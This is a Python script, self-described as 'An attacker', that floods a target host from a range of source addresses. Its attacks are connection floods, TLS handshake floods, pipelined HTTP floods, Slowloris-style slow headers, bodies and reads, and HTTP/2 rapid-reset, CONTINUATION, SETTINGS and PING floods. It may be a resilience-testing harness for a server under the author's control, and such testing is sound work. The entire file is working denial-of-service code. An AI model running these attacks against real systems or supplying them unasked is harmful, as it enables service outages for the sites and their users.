# SPDX-License-Identifier: Apache-2.0
"""An attacker: python3 attacker.py KIND ADDRESS PORT HOST SECONDS FIRST_SOURCE SOURCES

Comes from SOURCES addresses, beginning with FIRST_SOURCE, and goes on for SECONDS whatever is done to it. Prints how often it tried.
KIND is one of the functions below. One thread for each of WORKERS; what it cannot send it sends again on a new connection.
"""
import ipaddress
import random
import socket
import ssl
import struct
import sys
import threading
import time

WORKERS = 4
HELD = 1500  # connections of the slow attacks
PIPELINED = 50
BEGUN_HELLO = bytes([0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3])

kind, address, port, host, seconds, first_source, sources = sys.argv[1:]
target, until = (address, int(port)), time.monotonic() + float(seconds)
tried = [0]


def goes_on():
    return time.monotonic() < until


def connect(receive_bytes=0):
    source = str(ipaddress.ip_address(first_source) + random.randrange(int(sources)))
    connection = socket.socket()
    connection.settimeout(2)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # no port stays taken behind it
    if receive_bytes:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    connection.bind((source, 0))
    connection.connect(target)
    tried[0] += 1
    return connection


def shake(connection, protocols=("http/1.1",)):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(connection, server_hostname=host)


def frame(kind_of_frame, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind_of_frame, flags]) + struct.pack(">I", stream) + payload


def connections():
    connect().close()


def handshakes():
    with shake(connect()):
        pass


def hellos():
    with connect() as connection:
        connection.send(BEGUN_HELLO)


def pipelined(path):
    request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() * PIPELINED
    with connect() as connection:
        while goes_on():
            connection.sendall(request)
            if not connection.recv(1 << 20):
                return


def requests():
    pipelined("/1k.bin")


def misses():
    pipelined("/pass/1k.bin")


def held(beginning, crumb, receive_bytes=0):
    """Opens connections up to a bound, gives each a crumb every two seconds, and replaces those that are closed."""
    mine = []
    while goes_on():
        for connection in mine[:]:
            try:
                if crumb:
                    connection.send(crumb)
            except OSError:
                connection.close()
                mine.remove(connection)
        due = time.monotonic() + 2
        while goes_on() and time.monotonic() < due:
            if len(mine) >= HELD // WORKERS:
                time.sleep(0.1)
                continue
            try:
                mine.append(connect(receive_bytes))
                mine[-1].sendall(beginning)
            except OSError:
                time.sleep(0.01)


def slow_heads():
    held(f"GET /1k.bin HTTP/1.1\r\nHost: {host}\r\n".encode(), b"X-A: b\r\n")


def slow_bodies():
    held(f"POST /pass/1k.bin HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\n".encode(), b"x")


def slow_reads():
    held(f"GET /4m.bin HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), b"", 4096)


def request_head():
    return bytes([0x82, 0x87, 0x84, 0x41, len(host)]) + host.encode()


def http2(flood, beginning=b""):
    with shake(connect(), ("h2",)) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + beginning)
        stream = 1
        while goes_on():
            part = b""
            for _ in range(PIPELINED):
                part += flood(stream)
                stream += 2
            connection.sendall(part)


def resets():
    http2(lambda stream: frame(1, 5, stream, request_head()) + frame(3, 0, stream, bytes([0, 0, 0, 8])))


def provoked():
    # An increment of nothing is an error of the stream, which it is for the server to reset.
    http2(lambda stream: frame(1, 5, stream, request_head()) + frame(8, 0, stream, bytes(4)))


def continuations():
    # A field of the table again and again: a byte to send, and a field to keep.
    http2(lambda stream: frame(9, 0, 1, bytes([0x90]) * 16), frame(1, 0, 1, request_head()))


def settings():
    http2(lambda stream: frame(4, 0, 0, struct.pack(">HI", 4, 65535)))


def pings():
    http2(lambda stream: frame(6, 0, 0, bytes(8)))


def work():
    while goes_on():
        try:
            globals()[kind.replace("-", "_")]()
        except OSError:
            pass  # cut off: again


workers = [threading.Thread(target=work) for _ in range(WORKERS)]
for worker in workers:
    worker.start()
for worker in workers:
    worker.join()
print(tried[0])
